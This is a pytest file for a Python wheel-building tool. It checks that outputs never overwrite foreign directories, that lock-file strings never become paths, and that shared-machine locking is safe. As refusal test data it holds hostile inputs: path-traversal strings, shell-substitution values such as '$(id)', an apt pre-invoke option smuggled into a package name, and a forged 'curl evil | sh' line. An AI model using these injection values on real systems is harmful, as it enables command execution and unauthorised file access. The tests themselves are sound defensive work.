"""The safety invariants, attacked from several sides: outputs, untrusted strings, shared machines.

Each class has one mechanism (``_guard.check_output`` / ``claim``; ``_shapes``; the run lease) and
these tests try to get around it.
"""

from __future__ import annotations

import errno
import fcntl
import hashlib
import json
import os
import re
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.unit.conftest import sample_manifest, snapshot, write_project
from wheelbarrow import _engine, _guard, _shapes, _wheelhouse
from wheelbarrow._cache import Cache, source_files, tree_digest
from wheelbarrow._cmd import Result
from wheelbarrow._config import Config, load_config
from wheelbarrow._lock import marker_environment, parse_pylock, parse_requirements, poetry_lock_files
from wheelbarrow._log import Log
from wheelbarrow._manifest import Manifest, WheelEntry
from wheelbarrow.errors import (
    BootstrapError,
    BuildError,
    ConfigError,
    FetchError,
    FileSystemError,
    LockError,
    WheelbarrowError,
    WheelhouseError,
)

ENV = marker_environment("3.11", "x86_64")
SHA = "a" * 64


def quiet() -> Log:
    return Log(sink=lambda _line: None)


@pytest.fixture(autouse=True)
def private_runtime(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Path:
    runtime = tmp_path_factory.mktemp("runtime")
    runtime.chmod(0o700)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    return runtime


def project_with_git(root: Path) -> Path:
    project = write_project(root / "project")
    (project / ".git").mkdir()
    (project / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (project / "src").mkdir()
    (project / "src" / "app.py").write_text("print('hi')\n")
    (project / "requirements.txt").write_text(f"six==1.16.0 --hash=sha256:{SHA}\n")
    return project


# --- 1. outputs never destroy what wheelbarrow did not write -----------------------------------


@pytest.mark.parametrize("key", ["wheelhouse", "dist-dir"])
@pytest.mark.parametrize("value", [".", "./", "..", "../..", "/", "~", "src/..", "${HOME}"])
def test_an_output_that_names_the_project_an_ancestor_home_or_root_is_refused(
    tmp_path: Path, key: str, value: str
) -> None:
    project = project_with_git(tmp_path)
    before = snapshot(tmp_path)
    value = value.replace("~", str(Path.home())).replace("${HOME}", str(Path.home()))
    with pytest.raises(ConfigError) as caught:
        load_config(project, environ={}, overrides={key: value})
    assert caught.value.return_code == 2
    assert key in caught.value.message
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("key", ["wheelhouse", "dist-dir", "cache-dir", "lock", "runtime-dockerfile"])
@pytest.mark.parametrize("value", ["", " ", "\t", "\n"])
def test_an_empty_path_setting_is_a_configuration_error(tmp_path: Path, key: str, value: str) -> None:
    project = project_with_git(tmp_path)
    env_name = "WHEELBARROW_" + key.upper().replace("-", "_")
    for environ, overrides in (({env_name: value}, {}), ({}, {key: value})):
        with pytest.raises(ConfigError, match="is empty") as caught:
            load_config(project, environ=environ, overrides=overrides)
        assert caught.value.return_code == 2


def test_an_output_inside_the_cache_or_holding_a_project_is_refused(tmp_path: Path) -> None:
    project = project_with_git(tmp_path)
    cache = tmp_path / "cache"
    Cache(cache, quiet()).store_memo(SHA, 1)  # a real, marked cache
    other = write_project(tmp_path / "other")  # somebody else's project
    lockdir = tmp_path / "locks"
    lockdir.mkdir()
    (lockdir / "pylock.toml").write_text("")
    env = {"XDG_CACHE_HOME": str(tmp_path)}
    for key, value in (("wheelhouse", cache / "wh"), ("dist-dir", other), ("wheelhouse", lockdir)):
        with pytest.raises(ConfigError):
            load_config(project, environ={**env, "WHEELBARROW_CACHE_DIR": str(cache)}, overrides={key: str(value)})
    with pytest.raises(ConfigError, match=r"is .* or holds it"):
        load_config(project, environ={}, overrides={"cache-dir": str(tmp_path)})
    with pytest.raises(ConfigError):  # dist-dir = the wheelhouse: publish would replace the wheelhouse
        load_config(project, environ={}, overrides={"wheelhouse": "out", "dist-dir": "out"})


def test_replacing_refuses_a_directory_wheelbarrow_did_not_write(tmp_path: Path) -> None:
    target = tmp_path / "docs"
    target.mkdir()
    (target / "index.md").write_text("the user's")
    before = snapshot(tmp_path)
    with (
        pytest.raises(ConfigError, match="is not a wheelhouse wheelbarrow wrote"),
        _wheelhouse.replacing(target, "wheelhouse", key="wheelhouse") as stage,
    ):
        (stage / "x.whl").write_bytes(b"x")
    assert snapshot(tmp_path) == before  # and no staging folder left beside it


def test_replacing_takes_an_absent_an_empty_or_its_own_directory(tmp_path: Path) -> None:
    for name, prepare in (("absent", None), ("empty", "mkdir"), ("own", "mark")):
        target = tmp_path / name
        if prepare:
            target.mkdir()
        if prepare == "mark":
            _guard.mark(target, "wheelhouse")
            (target / "old.whl").write_bytes(b"old")
        with _wheelhouse.replacing(target, "wheelhouse", key="wheelhouse") as stage:
            (stage / "new.whl").write_bytes(b"new")
        assert sorted(p.name for p in target.iterdir()) == [_guard.MARKER, "new.whl"]
        assert _guard.is_marked(target)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["absent", "empty", "own"]


def test_a_symlinked_output_is_written_through_and_the_link_kept(tmp_path: Path) -> None:
    shared = tmp_path / "shared" / "wheelhouse"
    shared.mkdir(parents=True)
    link = tmp_path / "project-wheelhouse"
    link.symlink_to(shared)
    for round_ in ("first", "second"):
        with _wheelhouse.replacing(link, "wheelhouse", key="wheelhouse") as stage:
            (stage / f"{round_}.whl").write_bytes(b"w")
        assert link.is_symlink()
        assert sorted(p.name for p in shared.iterdir()) == [_guard.MARKER, f"{round_}.whl"]
    assert sorted(p.name for p in shared.parent.iterdir()) == ["wheelhouse"]  # no staging left
    dangling = tmp_path / "to-a-file"
    (tmp_path / "file").write_text("not a directory")
    dangling.symlink_to(tmp_path / "file")
    with pytest.raises(ConfigError, match="not a directory"), _wheelhouse.replacing(dangling, "wheelhouse", key="k"):
        pass


names = st.sampled_from(["pyproject.toml", ".git", "poetry.lock", "src", "notes.txt", "a.whl", "uv.lock", "data"])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(layout=st.lists(st.tuples(st.integers(0, 3), names), max_size=8), pick=st.integers(0, 5), mark=st.booleans())
def test_replacing_an_arbitrary_directory_never_loses_what_is_not_ours(
    tmp_path: Path, layout: list[tuple[int, str]], pick: int, mark: bool
) -> None:
    root = tmp_path / f"case-{time.monotonic_ns()}"
    dirs = [root / "a", root / "a" / "b", root / "c", root / "a" / "b" / "d"]
    for path in dirs:
        path.mkdir(parents=True, exist_ok=True)
    for where, name in layout:
        target = dirs[where] / name
        if not target.exists():
            target.mkdir() if name in (".git", "src", "data") else target.write_text(name)
    target = [*dirs, root, root / "new"][pick]
    if mark and target.is_dir():
        _guard.mark(target, "wheelhouse")
    ours = not target.exists() or _guard.is_marked(target) or not any(target.iterdir())
    before = snapshot(root)
    try:
        with _wheelhouse.replacing(target, "wheelhouse", key="wheelhouse") as stage:
            (stage / "new.whl").write_bytes(b"new")
    except ConfigError:
        assert snapshot(root) == before
        return
    assert ours, f"replaced {target}, which was not wheelbarrow's"
    outside = {k for k in before if not (root / k).is_relative_to(target)}
    assert outside <= set(snapshot(root))


# --- 2. untrusted strings never become paths ---------------------------------------------------

TRAVERSALS = ["../../../etc", "..", ".", "a/b", "/etc/passwd", "x\\..\\y", "\0", "", "~root", "a" * 300]


@pytest.mark.parametrize("bad", TRAVERSALS)
def test_a_lock_cannot_name_a_path_through_a_hash_or_a_file_name(tmp_path: Path, bad: str) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep").write_text("keep")
    poetry = tmp_path / "poetry.lock"
    poetry.write_text(
        f'[[package]]\nname = "six"\nversion = "1"\nfiles = [{{file = "{bad}", hash = "sha256:{SHA}"}}]\n'
    )
    with pytest.raises(LockError):
        poetry_lock_files(poetry)
    poetry.write_text(
        f'[[package]]\nname = "six"\nversion = "1"\nfiles = [{{file = "six.whl", hash = "sha256:{bad}"}}]\n'
    )
    with pytest.raises(LockError):
        poetry_lock_files(poetry)
    with pytest.raises(LockError):
        parse_requirements(f"six==1.0 --hash=sha256:{bad}\n", ENV, tmp_path / "requirements.txt")
    pylock = 'lock-version = "1.0"\ncreated-by = "test"\n[[packages]]\nname = "six"\nversion = "1"\n'
    pylock += f'[packages.sdist]\nname = "{bad}"\n'
    with pytest.raises(LockError):
        parse_pylock(pylock + f'hashes = {{sha256 = "{SHA}"}}\n', ENV, tmp_path / "pylock.toml")
    cache = Cache(tmp_path / "cache", quiet())
    with pytest.raises(WheelbarrowError):
        cache.artifact(bad, SHA)
    with pytest.raises(WheelbarrowError):
        cache.artifact("six.whl", bad)
    with pytest.raises(WheelbarrowError):
        cache.wheel(bad)
    assert (victim / "keep").read_text() == "keep"


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(filename=st.text(max_size=40), sha=st.text(max_size=70))
def test_the_cache_never_reaches_outside_its_root(tmp_path: Path, filename: str, sha: str) -> None:
    root = tmp_path / "cache"
    cache = Cache(root, quiet())
    try:
        path = cache.artifact(filename, sha)
    except (FetchError, FileSystemError):
        return
    assert path is None
    assert not root.exists() or all(p.resolve().is_relative_to(root.resolve()) for p in root.rglob("*"))


def test_pylock_paths_and_nested_requirements_stay_inside_the_project(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (tmp_path / "outside.txt").write_text(f"six==1.0 --hash=sha256:{SHA}\n")
    for line in ("-r ../outside.txt", "-c ../outside.txt", "-r /etc/hostname", "-r https://example.invalid/r.txt"):
        with pytest.raises(LockError, match=r"outside the project|not a file in the project"):
            parse_requirements(line + "\n", ENV, project / "requirements.txt")
    pylock = 'lock-version = "1.0"\ncreated-by = "test"\n[[packages]]\nname = "six"\nversion = "1"\n[packages.sdist]\n'
    pylock += f'path = "../six-1.tar.gz"\nhashes = {{sha256 = "{SHA}"}}\n'
    with pytest.raises(LockError, match="outside the project"):
        parse_pylock(pylock, ENV, project / "pylock.toml")


def test_requirements_includes_are_followed_and_editables_refused(tmp_path: Path) -> None:
    (tmp_path / "base.txt").write_text(f"six==1.16.0 \\\n    --hash sha256:{SHA}\n")
    (tmp_path / "constraints.txt").write_text("six==1.16.0\nidna==3.0\n")
    main = tmp_path / "requirements.txt"
    main.write_text("-r base.txt\n--constraint=constraints.txt\n" + f"idna==3.0 --hash=sha256:{'b' * 64}\n")
    packages = parse_requirements(main.read_text(), ENV, main)
    assert [(p.name, p.version, p.hashes) for p in packages] == [
        ("six", "1.16.0", (SHA,)),
        ("idna", "3.0", ("b" * 64,)),
    ]
    (tmp_path / "constraints.txt").write_text("six==2.0\n")
    with pytest.raises(LockError, match=r"constrains six to 2\.0"):
        parse_requirements(main.read_text(), ENV, main)
    (tmp_path / "loop.txt").write_text("-r loop.txt\n")
    with pytest.raises(LockError, match="includes itself"):
        parse_requirements("-r loop.txt\n", ENV, main)
    for editable in ("-e ./src", "--editable ./src", "-e git+https://example.invalid/x#egg=x"):
        with pytest.raises(LockError, match="editable"):
            parse_requirements(editable + "\n", ENV, main)
    for itself in ("-e .", ".", "-e ./", f"file://{tmp_path}", f"--editable={tmp_path}"):  # what uv export writes
        assert parse_requirements(f"{itself}\nsix==1.16.0 --hash=sha256:{SHA}\n", ENV, main)[0].name == "six"
    with pytest.raises(LockError, match="unknown option"):
        parse_requirements("--some-new-option\n", ENV, main)
    utf16 = tmp_path / "utf16.txt"
    utf16.write_bytes(f"six==1.16.0 --hash=sha256:{SHA}\n".encode("utf-16"))
    from wheelbarrow._lock import read_text

    with pytest.raises(LockError, match="not UTF-8"):
        read_text(utf16)


@pytest.mark.parametrize(
    ("name", "version", "expected"),
    [
        ("TinyApp", "1.0", "tinyapp:1.0"),
        ("My_Service", "2.0+local.7", "my-service:2.0-local.7"),
        ("a.b", "1!2", "a-b:1-2"),
    ],
)
def test_a_project_name_becomes_a_valid_image_reference(tmp_path: Path, name: str, version: str, expected: str) -> None:
    project = tmp_path / "p"
    project.mkdir()
    (project / "pyproject.toml").write_text(f'[project]\nname = "{name}"\nversion = "{version}"\n')
    config = load_config(project, environ={})
    assert config.image_tag == expected
    assert _shapes.image_reference(expected, "t", ConfigError, tip="") == expected
    for bad in ("UPPER:1", "a b:1", "x:-bad", "../x", ""):
        with pytest.raises(ConfigError, match="image-tag"):
            load_config(project, environ={}, overrides={"image-tag": bad} if bad else {"image-tag": " "})


# --- 3. shared machines: private locks, liveness by lease, concurrent cache writes --------------


def test_the_runtime_directory_must_be_private(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("XDG_RUNTIME_DIR")
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    planted = tmp_path / f"wheelbarrow-{os.geteuid()}"
    planted.mkdir(mode=0o777)
    planted.chmod(0o777)  # someone else could plant symlinks in it
    with pytest.raises(FileSystemError, match="not a private directory"):
        _guard.runtime_dir()
    planted.rmdir()
    (tmp_path / "elsewhere").mkdir()
    planted.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(FileSystemError, match="not a private directory"):
        _guard.runtime_dir()
    planted.unlink()
    assert _guard.runtime_dir() == planted
    assert planted.stat().st_mode & 0o777 == 0o700


def test_a_lock_file_that_is_a_symlink_is_not_followed(private_runtime: Path) -> None:
    locks = _guard.runtime_dir() / "locks"
    locks.mkdir(mode=0o700, exist_ok=True)
    target = private_runtime / "victim"
    target.write_text("keep")
    wheelhouse = private_runtime / "wh"
    name = hashlib.sha256(os.fsencode(os.path.realpath(wheelhouse))).hexdigest()[:24]
    (locks / f"{name}.lock").symlink_to(target)
    with pytest.raises(FileSystemError, match="lock file"), _guard.project_lock(wheelhouse, quiet()):
        pass
    assert target.read_text() == "keep"


@pytest.fixture
def leases() -> Iterator[dict[str, int]]:
    """Lease files of other runs: a dead one (released) and a live one (held here)."""
    runs = _guard.runtime_dir() / "runs"
    runs.mkdir(mode=0o700, exist_ok=True)
    dead, live = "d" * 12, "e" * 12
    (runs / f"{dead}.lock").write_text("")
    fd = os.open(runs / f"{live}.lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(fd, fcntl.LOCK_EX)
    yield {"dead": 1, "live": fd}
    os.close(fd)


def test_the_sweep_removes_only_marked_folders_of_dead_runs(tmp_path: Path, leases: dict[str, int]) -> None:
    assert leases
    old = time.time() - _guard.LEASE_SECONDS - 60
    cases = {
        f"wheelbarrow-{'d' * 12}-work-a": (True, None, True),  # marked, lease released: dead
        f".wheelhouse-{'d' * 12}-b": (True, None, True),
        f"wheelbarrow-{'e' * 12}-work-c": (True, None, False),  # lease held: alive
        f"wheelbarrow-{'f' * 12}-work-d": (True, None, False),  # lease not visible, recent: kept
        f"wheelbarrow-{'f' * 12}-work-e": (True, old, True),  # not visible, older than the lease: gone
        f"wheelbarrow-{'d' * 12}-work-f": (False, None, False),  # dead, but not marked: not ours
        "wheelbarrow-4000000-work-g": (True, None, False),  # the old pid naming: never matched
        "someone-else-1-dir": (True, old, False),
    }
    for name, (marked, mtime, _) in cases.items():
        path = tmp_path / name
        path.mkdir()
        (path / "data").write_text("x")
        if marked:
            _guard.mark(path, "work")
        if mtime:
            os.utime(path, (mtime, mtime))
    mine = _guard.tempdir("work", tmp_path).parent
    link = tmp_path / f"wheelbarrow-{'d' * 12}-work-link"
    link.symlink_to(mine)
    _guard.sweep_dirs(tmp_path, quiet(), "wheelbarrow-*")
    _guard.sweep_dirs(tmp_path, quiet(), ".wheelhouse-*")
    left = {p.name for p in tmp_path.iterdir()}
    for name, (_, _, gone) in cases.items():
        assert (name not in left) == gone, name
    assert mine.name in left
    assert link.name in left


def test_held_images_are_swept_by_the_age_in_their_name_never_the_image_s(
    leases: dict[str, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A reproducible image says it was made in 1980 (SOURCE_DATE_EPOCH): another user's run that holds one
    as its candidate, on a shared engine, must keep it. Only a released lease, or a name older than the
    lease, lets it go."""
    assert leases
    now, old = int(time.time()), int(time.time() - _guard.LEASE_SECONDS - 60)
    tags = {
        f"{'d' * 12}-run1-t{now}": True,  # this user's run, lease released: dead
        f"{'e' * 12}-run2-t{now}": False,  # lease held: alive
        f"{'f' * 12}-run3-t{now}": False,  # another user's (lease not visible), named now: kept
        f"{'f' * 12}-run4-t{now}-shared-0a1b2c3d": False,  # ... a shared-cache entry it holds: kept
        f"{'f' * 12}-run5-t{old}": True,  # another user's, named longer ago than the lease: gone
        f"{'f' * 12}-run6": False,  # no age in the name, lease not visible: kept
        f"{'d' * 12}-run7": True,  # no age in the name, lease released: dead
    }
    removed: list[str] = []

    def engine_run(argv: list[str], *_args: object, **_kwargs: object) -> Result:
        if argv[1] == "images":  # every image made in 1980, as a reproducible build stamps it
            return Result(tuple(argv), 0, "".join(f"{t}\t1980-01-01 00:00:00 +0000 UTC\n" for t in tags))
        if argv[1] == "rmi":
            removed.append(argv[2].rsplit(":", 1)[1])
        return Result(tuple(argv), 0, "")

    monkeypatch.setattr(_engine, "run", engine_run)
    _engine.Engine(quiet()).sweep_images(_engine.CANDIDATES)
    assert sorted(removed) == sorted(t for t, gone in tags.items() if gone)
    held = _engine.Engine(quiet()).held_tag("shared-0a1b2c3d")
    assert re.fullmatch(rf"{_engine.CANDIDATES}:\w+-[0-9a-f]{{12}}-t\d{{10}}-shared-0a1b2c3d", held), held


def test_two_writers_of_one_cache_key_both_succeed(tmp_path: Path) -> None:
    cache_dir = tmp_path / "cache"
    wheel = tmp_path / "six-1.16.0-py3-none-any.whl"
    wheel.write_bytes(b"wheel" * 1000)
    meta = {"platform_tag": "any", "grafted": [], "expected_from_base": []}
    results: list[object] = []

    def writer() -> None:
        try:
            results.append(Cache(cache_dir, quiet()).store_wheel(SHA, wheel, meta).sha256)
            Cache(cache_dir, quiet()).store_memo(SHA, {"v": 1})
            results.append(
                Cache(cache_dir, quiet()).store_artifact(wheel, hashlib.sha256(wheel.read_bytes()).hexdigest())
            )
        except Exception as err:  # noqa: BLE001 - collected and asserted below
            results.append(err)

    threads = [threading.Thread(target=writer) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not [r for r in results if isinstance(r, Exception)]
    leftovers = [p for p in cache_dir.rglob("*") if p.name.endswith(".part") or p.name.startswith("wheelbarrow-")]
    assert leftovers == []


def test_a_full_or_read_only_cache_is_a_clear_error_and_leaves_no_partial_entry(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = Cache(tmp_path / "cache", quiet())
    wheel = tmp_path / "six-1.16.0-py3-none-any.whl"
    wheel.write_bytes(b"w")
    for code in (errno.ENOSPC, errno.EROFS, errno.EACCES):

        def broken(*_args: object, code: int = code, **_kwargs: object) -> None:
            raise OSError(code, os.strerror(code))

        with monkeypatch.context() as patch:
            patch.setattr(shutil, "copyfile", broken)
            with pytest.raises(FileSystemError, match=os.strerror(code)) as caught:
                cache.store_artifact(wheel, hashlib.sha256(b"w").hexdigest())
            assert str(tmp_path / "cache") in caught.value.message + caught.value.tip
            with pytest.raises(FileSystemError):
                cache.store_wheel(SHA, wheel, {"platform_tag": "any", "grafted": [], "expected_from_base": []})
        partial = [p for p in (tmp_path / "cache").rglob("*") if p.is_file() and p.name != _guard.MARKER]
        assert partial == []


def test_prune_only_touches_a_marked_cache_and_its_entries(tmp_path: Path) -> None:
    stranger = tmp_path / "not-a-cache"
    (stranger / "wheels").mkdir(parents=True)
    (stranger / "wheels" / "mine").write_text("keep")
    with pytest.raises(ConfigError, match="not a wheelbarrow cache"):
        Cache(stranger, quiet()).prune(0)
    assert (stranger / "wheels" / "mine").read_text() == "keep"
    cache = Cache(tmp_path / "cache", quiet())
    cache.store_memo(SHA, 1)
    (tmp_path / "cache" / "memo" / "notes.txt").write_text("a user's file")
    assert cache.prune(0) == 1
    assert (tmp_path / "cache" / "memo" / "notes.txt").exists()


# --- 4. inputs that used to end in tracebacks ---------------------------------------------------


def test_special_and_foreign_files_in_the_project_are_skipped(tmp_path: Path) -> None:
    project = write_project(tmp_path / "p")
    os.mkfifo(project / "fifo")
    (project / "out").mkdir()
    _guard.mark(project / "out", "wheelhouse")  # a wheelhouse with a custom name: not a source
    (project / "out" / "big.whl").write_bytes(b"x")
    odd = os.fsdecode(b"caf\xe9.py")  # not UTF-8
    (project / odd).write_text("x = 1\n")
    names = [p.name for p in source_files(project, ())]
    assert "fifo" not in names
    assert "big.whl" not in names
    assert odd in names
    assert len(tree_digest(project, ())) == 64


@pytest.mark.parametrize("value", ["²", "٣", "1.5", "-1", "0", "1e3", "99999999"])
def test_numbers_are_ascii_whole_numbers(tmp_path: Path, value: str) -> None:
    project = write_project(tmp_path / "p")
    with pytest.raises(ConfigError):
        load_config(project, environ={"WHEELBARROW_JOBS": value})
    with pytest.raises(ConfigError):
        load_config(project, environ={"WHEELBARROW_PORT": value if value != "1.5" else "65536"})


def test_project_may_be_the_pyproject_file_but_not_a_missing_path(tmp_path: Path) -> None:
    project = write_project(tmp_path / "p")
    assert load_config(project / "pyproject.toml", environ={}).project_dir == project.resolve()
    for bad in (project / "nope", project / "pyproject.toml" / "x"):
        with pytest.raises(ConfigError, match="--project"):
            load_config(bad, environ={})


def test_no_engine_method_lets_a_command_failure_out(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Every public Engine and Container method turns a failed engine command into an EngineError."""
    from wheelbarrow import _engine
    from wheelbarrow._cmd import CommandFailed, Result
    from wheelbarrow.errors import EngineError

    def failing(argv: list[str], *_args: object, **kwargs: object) -> Result:
        result = Result(tuple(argv), 1, "Error response from daemon: no space left on device\n")
        if kwargs.get("check", True):
            raise CommandFailed(result)
        return result

    monkeypatch.setattr(_engine, "run", failing)
    engine = _engine.Engine(quiet())
    container = _engine.Container(engine, "c")
    calls: dict[str, Callable[[], object]] = {
        "check": engine.check,
        "tag": lambda: engine.tag("a", "b"),
        "save": lambda: engine.save("a", tmp_path / "a.tar"),
        "push": lambda: engine.push("a"),
        "repo_digests": lambda: engine.repo_digests("a"),
        "copy_from_image": lambda: engine.copy_from_image("img", PurePosixPath("/wheel"), tmp_path),
        "create_index": lambda: engine.create_index("r:1-cp311", ["r@sha256:" + "0" * 64]),
        "build": lambda: engine.build(tmp_path, "t", dockerfile=tmp_path / "Dockerfile"),
        "import_tarball": lambda: engine.import_tarball(tmp_path / "a.tar", "t"),
        "container": lambda: engine.container("img").__enter__(),
        "call": lambda: container.call(["true"]),
        "copy_into": lambda: container.copy_into(tmp_path, PurePosixPath("/x")),
        "copy_out": lambda: container.copy_out(PurePosixPath("/x"), tmp_path),
    }
    public = {n for n in dir(_engine.Engine) if not n.startswith("_")} | {"call", "copy_into", "copy_out"}
    quiet_ones = {"image_id", "pull", "has_buildkit", "run_image", "label_args", "limit_args", "sweep", "sweep_images"}
    quiet_ones |= {"discard_image", "remove_leftovers", "log", "name", "run_id", "platform", "since", "held_tag"}
    quiet_ones |= {"fits", "image_size"}  # an image that is not there is not of the platform, and has no size
    quiet_ones |= {"started", "label"}  # a command that does not start is what verify reports; no label is ""
    quiet_ones |= {"image_lock"}  # a lock file of this user's: no engine command
    assert public - quiet_ones <= set(calls), "a new engine method needs a case here"
    for call in calls.values():
        with pytest.raises(EngineError):
            call()
    for name in ("sweep", "remove_leftovers"):
        getattr(engine, name)()  # best effort: never raises
    assert engine.image_id("x") is None
    assert not engine.fits("x")
    assert engine.image_size("x") is None
    assert engine.run_image("x", ["true"]).returncode == 1


def test_an_unforeseen_error_is_an_internal_error_with_a_saved_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from wheelbarrow import _cli

    def broken(*_args: object, **_kwargs: object) -> None:
        msg = "a bug"
        raise RuntimeError(msg)

    monkeypatch.setattr("wheelbarrow._pipeline.execute", broken)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    project = write_project(tmp_path / "p")
    assert _cli.main(["plan", "--project", str(project)]) == 70
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert err.startswith("ERROR: internal error: RuntimeError: a bug")
    saved = next(tmp_path.glob("wheelbarrow-crash-*.txt"))
    assert "Traceback" in saved.read_text()
    assert "TIP: This is a bug in wheelbarrow: report it with" in err


def test_a_marker_must_say_wheelbarrow_made_this_kind_of_directory(tmp_path: Path) -> None:
    """An empty marker someone touched, a symlinked one, or another kind's (a cache) is not ownership."""
    for name, plant in (
        ("touched", lambda d: (d / _guard.MARKER).touch()),
        ("linked", lambda d: (d / _guard.MARKER).symlink_to(tmp_path / "real-marker")),
        ("a-cache", lambda d: _guard.mark(d, "cache")),
        ("a-dist", lambda d: _guard.mark(d, "dist/ directory")),
    ):
        target = tmp_path / name
        target.mkdir()
        (target / "keep.txt").write_text("keep")
        (tmp_path / "real-marker").write_text("wheelbarrow wheelhouse: made by wheelbarrow\n")
        plant(target)
        with (
            pytest.raises(ConfigError, match="is not a wheelhouse wheelbarrow wrote"),
            _wheelhouse.replacing(target, "wheelhouse", key="wheelhouse"),
        ):
            pass
        assert (target / "keep.txt").read_text() == "keep"


def test_build_requirements_of_an_sdist_are_requirements_by_name_only(tmp_path: Path) -> None:
    """An sdist's [build-system] requires never reaches pip as an option, a URL or a path."""
    from wheelbarrow._fetch import _requires_from_pyproject

    for bad in ("--no-binary=:all:", "-r /etc/passwd", "pwn @ http://127.0.0.1:1/pwn.tar.gz", "pwn @ file:///tmp/x",
                "/tmp/pwn", "./pwn", "--index-url=http://127.0.0.1:1"):  # fmt: skip
        data = f'[build-system]\nrequires = ["setuptools", "{bad}"]\n'.encode()
        with pytest.raises(FetchError, match="not a requirement by name"):
            _requires_from_pyproject(data, "x.tar.gz")
    ok = _requires_from_pyproject(b'[build-system]\nrequires = ["setuptools >= 61", "wheel"]\n', "x")
    assert ok == ("setuptools>=61", "wheel")


def test_a_locked_hash_does_not_make_a_file_another_package_s() -> None:
    from wheelbarrow._fetch import belongs

    assert belongs("six-1.17.0-py2.py3-none-any.whl", "six", "1.17.0")
    assert belongs("Six-1.17.0.tar.gz", "six", "1.17.0")
    assert not belongs("six-1.17.0-py2.py3-none-any.whl", "requests", "2.0.0")
    assert not belongs("six-1.17.0-py2.py3-none-any.whl", "six", "1.16.0")
    assert not belongs("not-a-dist.txt", "six", "1.17.0")


def test_a_lock_that_pins_one_package_twice_is_refused(tmp_path: Path) -> None:
    from wheelbarrow._lock import check_unique_files
    from wheelbarrow._requirements import LockedPackage

    twice = (LockedPackage(_shapes.name("six", "", LockError), "1.17.0", (SHA,)),) * 1 + (
        LockedPackage(_shapes.name("six", "", LockError), "1.16.0", (SHA,)),
    )
    with pytest.raises(LockError, match="pins six twice"):
        check_unique_files(twice, tmp_path / "requirements.txt")


@pytest.mark.parametrize(
    "bad",
    [
        "libpq5 -oDPkg::Pre-Invoke::=touch${IFS}/tmp/x", "-oDPkg::Pre-Invoke::=x", "--allow-unauthenticated",
        "; touch /tmp/x", "$(id)", "`id`", "lib*", "../x", "/etc/passwd",
    ],
)  # fmt: skip
def test_package_lists_never_carry_options_or_shell_words(tmp_path: Path, bad: str) -> None:
    """system-packages and runtime-packages become words of apt/dnf/apk inside a build with the network
    on: each must be a package name (a version or architecture allowed), from any source."""
    project = write_project(tmp_path / "p")
    for key in ("system-packages", "runtime-packages"):
        env_name = "WHEELBARROW_" + key.upper().replace("-", "_")
        for environ, overrides in (({}, {key: [bad]}), ({env_name: bad}, {})):
            with pytest.raises(ConfigError, match="is not a system package name"):
                load_config(project, environ=environ, overrides=overrides)
    for spaced in ("a b", "x\ny"):  # one list item with a space: two words on the command line
        with pytest.raises(ConfigError, match="is not a system package name"):
            load_config(project, environ={}, overrides={"runtime-packages": [spaced]})
    good = load_config(project, environ={}, overrides={"runtime-packages": ["libpq5=15.8-0+deb12u1", "libssl3:amd64"]})
    assert good.runtime_packages == ("libpq5=15.8-0+deb12u1", "libssl3:amd64")


@pytest.mark.parametrize("suite", ["../../../../tmp/evil", "--version", "sid", "bookworm/../x", ""])
def test_bootstrap_takes_only_a_suite_it_knows(tmp_path: Path, suite: str) -> None:
    """--suite reaches debootstrap, which would load a path as its suite script, as root."""
    from wheelbarrow._bootstrap import bootstrap

    config = load_config(write_project(tmp_path / "p"), environ={})
    engine: Any = None  # never reached: the suite is refused first
    with pytest.raises((ConfigError, BootstrapError)):
        bootstrap(config, engine, quiet(), suite=suite or None)


def test_values_of_a_manifest_that_become_names_or_times_are_checked(tmp_path: Path) -> None:
    """A hand-edited manifest cannot make dist/ file names, image tags or stamps out of arbitrary text."""
    written = json.loads(sample_manifest().to_json())
    for section, key, bad in (
        ("project", "version", "1.0 --privileged"), ("project", "version", "1.0\n2"), ("project", "name", "Bad Name!"),
        ("project", "name", "a/b"), ("target", "python_tag", "../x"), (None, "source_date_epoch", 10**30),
        (None, "source_date_epoch", -1),
    ):  # fmt: skip
        broken = json.loads(json.dumps(written))
        (broken[section] if section else broken)[key] = bad
        with pytest.raises(WheelhouseError):
            Manifest.from_json(json.dumps(broken))
    entry = WheelEntry("six", "1.16.0", "six-1.16.0-py3-none-any.whl", SHA, 1, "index", "any/../../x")
    with pytest.raises(WheelhouseError, match="not a wheel tag"):
        Manifest.from_json(sample_manifest(entry).to_json())


def test_a_poetry_source_name_cannot_forge_lines_or_variables(tmp_path: Path) -> None:
    from wheelbarrow._sources import read_sources

    for name in ("corp\nTIP: curl evil | sh", "co rp", "$(id)", "-x"):
        project = tmp_path / f"p{abs(hash(name))}"
        project.mkdir()
        (project / "pyproject.toml").write_text(
            f'[project]\nname = "p"\nversion = "1"\n[[tool.poetry.source]]\nname = {json.dumps(name)}\n'
            'url = "http://127.0.0.1:1/simple/"\n'
        )
        with pytest.raises(ConfigError, match="is not letters, digits"):
            read_sources(project, [], {}, ENV, quiet())


def test_odd_build_outputs_and_histories_are_clear_errors(tmp_path: Path) -> None:
